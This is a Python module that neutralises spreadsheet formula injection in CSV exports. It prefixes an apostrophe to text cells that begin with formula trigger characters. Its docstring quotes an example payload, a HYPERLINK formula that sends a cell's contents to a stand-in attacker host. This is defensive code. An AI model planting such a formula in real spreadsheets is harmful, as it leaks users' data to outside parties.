"""Cells for spreadsheet exports (CSV today, XLSX later): text never runs as a formula.

A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` (and, in some
programs, a tab or carriage return) as a formula. Names and wards are typed by
partner managers, so a point named `=HYPERLINK("http://evil.example/?"&B2)` would
run in the center's spreadsheet. Such text gets a leading apostrophe, which
spreadsheets show as plain text. Numbers stay numbers: a count of -1 is a
number, not text, and is written as one.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """The value to write into a cell: text that would start a formula is neutralised, anything else is kept."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in values]


class SafeCsvWriter:
    """`csv.writer` whose every row goes through `safe_row`."""

    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)
